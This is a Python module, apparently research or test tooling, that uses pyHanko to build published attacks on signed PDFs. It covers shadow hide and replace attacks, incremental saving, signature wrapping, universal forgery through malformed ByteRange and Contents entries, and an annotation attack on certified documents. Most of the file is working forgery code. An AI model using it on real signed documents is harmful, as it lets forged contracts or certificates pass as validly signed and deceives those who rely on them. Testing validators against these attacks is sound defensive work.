"""The published attacks on signed PDFs, made here from a paper of our own; bytes in, bytes out.

Shadow attacks: Mainka, Mladenov, Rohlmann (NDSS 2021). Incremental saving, signature wrapping, universal forgery:
Mladenov and others (CCS 2019). Attacks on certified documents: Rohlmann and others (S&P 2021).
"""

from __future__ import annotations

import io
import re
from collections.abc import Callable

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

FORGED = b"1 0 0 RG 50 50 400 400 re S"


def appended(pdf: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
    """One more revision behind a file."""
    writer = IncrementalPdfFileWriter(io.BytesIO(pdf))
    change(writer)
    output = io.BytesIO()
    writer.write(output)
    return output.getvalue()


def _first_page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    page: generic.DictionaryObject = writer.root["/Pages"]["/Kids"][0].get_object()
    return page


def with_hidden_content(pdf: bytes) -> bytes:
    """What an insider prepares before anybody signs: a second content stream that no page shows yet."""

    def hide(writer: IncrementalPdfFileWriter) -> None:
        hidden = writer.add_object(generic.StreamObject(stream_data=FORGED))
        writer.root[pdf_name("/PieceInfo")] = generic.DictionaryObject({pdf_name("/Hidden"): hidden})
        writer.update_root()

    return appended(pdf, hide)


def with_cover(pdf: bytes) -> bytes:
    """An insider lays an image over the text before anybody signs."""

    def cover(writer: IncrementalPdfFileWriter) -> None:
        page = _first_page(writer)
        over = generic.StreamObject(stream_data=b"1 1 1 rg 0 0 600 850 re f")
        page[pdf_name("/Contents")] = generic.ArrayObject([page.raw_get("/Contents"), writer.add_object(over)])
        writer.update_container(page)

    return appended(pdf, cover)


def hide(signed: bytes) -> bytes:
    """Shadow, hide: the cover is taken away after signing, by leaving out its stream."""

    def uncover(writer: IncrementalPdfFileWriter) -> None:
        page = _first_page(writer)
        page[pdf_name("/Contents")] = page["/Contents"][0]
        writer.update_container(page)

    return appended(signed, uncover)


def replace(signed: bytes) -> bytes:
    """Shadow, replace: what a font means is exchanged after signing, so the same text reads otherwise."""

    def exchange(writer: IncrementalPdfFileWriter) -> None:
        page = _first_page(writer)
        font = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Font"),
                pdf_name("/Subtype"): pdf_name("/Type1"),
                pdf_name("/BaseFont"): pdf_name("/ZapfDingbats"),
            }
        )
        fonts = page["/Resources"]["/Font"]
        for name in list(fonts):
            fonts[name] = writer.add_object(font)
        writer.update_container(fonts)

    return appended(signed, exchange)


def hide_and_replace(signed: bytes) -> bytes:
    """Shadow, hide and replace: the page points to the content hidden before the signature."""

    def show(writer: IncrementalPdfFileWriter) -> None:
        page = _first_page(writer)
        page[pdf_name("/Contents")] = writer.root["/PieceInfo"].raw_get("/Hidden")
        writer.update_container(page)

    return appended(signed, show)


def incremental_saving(signed: bytes) -> bytes:
    """A new revision with other content."""

    def rewrite(writer: IncrementalPdfFileWriter) -> None:
        page = _first_page(writer)
        page[pdf_name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=FORGED))
        writer.update_container(page)

    return appended(signed, rewrite)


def incremental_saving_without_table(signed: bytes) -> bytes:
    """The variant that adds objects without a cross-reference table, in the hope of a forgiving reader."""
    number = re.search(rb"/Contents (\d+) 0 R", signed)
    assert number is not None
    body = b"\n%s 0 obj\n<</Length %d>>\nstream\n%s\nendstream\nendobj\n" % (number[1], len(FORGED), FORGED)
    return signed + body + b"trailer\n<</Root 1 0 R>>\n%%EOF\n"


def _last_range(pdf: bytes) -> re.Match[bytes]:
    return list(re.finditer(rb"/ByteRange \[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf))[-1]


def ranged(pdf: bytes, inner: bytes) -> bytes:
    """The last signature's ByteRange written otherwise, as long as before."""
    found = _last_range(pdf)
    room = len(found[0])
    return pdf[: found.start()] + inner[:room].ljust(room) + pdf[found.end() :]


def wrapped(signed: bytes) -> bytes:
    """Signature wrapping: the signed second part is moved back, foreign bytes stand in the gap."""
    found = _last_range(signed)
    first, gap, rest = int(found[2]), int(found[3]), int(found[4])
    foreign = b"\n9999 0 obj\n<</Length 27>>\nstream\n" + FORGED + b"\nendstream\nendobj\n"
    moved = signed[:gap] + foreign + signed[gap : gap + rest]
    return ranged(moved, b"/ByteRange [0 %d %d %d]" % (first, gap + len(foreign), rest))


def _contents(pdf: bytes, inner: bytes) -> bytes:
    start = pdf.rindex(b"/Contents <") + len(b"/Contents ")
    end = pdf.index(b">", start) + 1
    return pdf[:start] + inner.ljust(end - start) + pdf[end:]


FORGERIES: dict[str, Callable[[bytes], bytes]] = {
    "no ByteRange": lambda pdf: ranged(pdf, b""),
    "null ByteRange": lambda pdf: ranged(pdf, b"/ByteRange null"),
    "empty ByteRange": lambda pdf: ranged(pdf, b"/ByteRange []"),
    "zero ByteRange": lambda pdf: ranged(pdf, b"/ByteRange [0 0 0 0]"),
    "negative ByteRange": lambda pdf: ranged(pdf, b"/ByteRange [0 -1 -1 9]"),
    "odd ByteRange": lambda pdf: ranged(pdf, b"/ByteRange [0 10 20]"),
    "overlapping ByteRange": lambda pdf: ranged(pdf, b"/ByteRange [0 900 0 900]"),
    "ByteRange beyond the end": lambda pdf: ranged(pdf, b"/ByteRange [0 10 20 9999999]"),
    "words for ByteRange": lambda pdf: ranged(pdf, b"/ByteRange [/a /b (c) <d>]"),
    "null Contents": lambda pdf: _contents(pdf, b"null"),
    "empty Contents": lambda pdf: _contents(pdf, b"<>"),
    "zero Contents": lambda pdf: _contents(pdf, b"<00>"),
    "all-zero Contents": lambda pdf: _contents(pdf, b"<" + b"00" * 4000 + b">"),
}
"""Universal signature forgery: what a signature needs is missing, empty or odd."""


def evil_annotation(certified: bytes) -> bytes:
    """A certified paper (DocMDP 2) gets an annotation that looks like content."""

    def annotate(writer: IncrementalPdfFileWriter) -> None:
        page = _first_page(writer)
        note = generic.DictionaryObject(
            {
                pdf_name("/Type"): pdf_name("/Annot"),
                pdf_name("/Subtype"): pdf_name("/Stamp"),
                pdf_name("/Rect"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 595, 842))),
                pdf_name("/Contents"): generic.TextStringObject("Được miễn phí"),
            }
        )
        page["/Annots"].append(writer.add_object(note))
        writer.update_container(page)

    return appended(certified, annotate)


def turned(pdf: bytes, at: int) -> bytes:
    """One bit of one byte the other way."""
    return pdf[:at] + bytes([pdf[at] ^ 0x01]) + pdf[at + 1 :]


def places(pdf: bytes, many: int) -> list[int]:
    """So many places spread evenly over what the last signature or archive time stamp covers."""
    found = _last_range(pdf)
    gap, after = int(found[2]), int(found[3])
    covered = len(pdf) - (after - gap)
    step = covered / many
    flat = (int((number + 0.5) * step) for number in range(many))
    return [at if at < gap else at + after - gap for at in flat]
